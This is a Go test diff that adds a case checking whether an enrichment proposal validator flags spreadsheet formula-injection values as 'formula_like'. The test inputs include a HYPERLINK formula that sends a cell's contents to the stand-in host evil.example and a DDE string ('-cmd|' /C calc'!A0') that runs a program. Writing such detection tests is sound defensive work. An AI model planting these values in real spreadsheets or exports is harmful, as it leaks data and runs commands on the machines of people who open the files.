@@ -122,6 +122,13 @@ func TestCheckProposal(t *testing.T) {
 				"attributes.5:not_a_boolean attributes.6:not_in_template attributes.7:unchanged attributes.8:renamed attributes.8:unit_removed " +
 				"attributes.8:unchanged attributes.9:unit_removed",
 			"warning warning error warning warning error warning warning warning warning warning warning"},
+		{"formulas", enrichment.Fields{Name: str(`=HYPERLINK("http://evil.example/?leak="&A2,"Click")`), Description: str("-5 degrees"),
+			Attributes: attrs(enrichment.StoredAttribute{Attribute: "Sole", Detail: "@SUM(1+1)"}, enrichment.StoredAttribute{Attribute: "Color", Detail: "Red"},
+				enrichment.StoredAttribute{Attribute: "+Grip", Detail: "high"}), Files: &[]string{"a.pdf", "-cmd|' /C calc'!A0"}}, nil, false,
+			`{"name":"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")","description":"-5 degrees",` +
+				`"attributes":[{"attribute":"Sole","detail":"@SUM(1+1)"},{"attribute":"+Grip","detail":"high"}],"files":["a.pdf","-cmd|' /C calc'!A0"]}`,
+			"attributes.1", "attributes.0:not_in_template attributes.1:unchanged attributes.2:not_in_template name:formula_like attributes.0:formula_like attributes.2:formula_like files:formula_like",
+			"warning warning warning warning warning warning warning"},
 		{"no attribute left", enrichment.Fields{Name: str("New"), Attributes: attrs(enrichment.StoredAttribute{Attribute: "Color", Detail: "Red"})},
 			nil, false, `{"name":"New"}`, "attributes.0", "attributes.0:unchanged", "warning"},
 	}
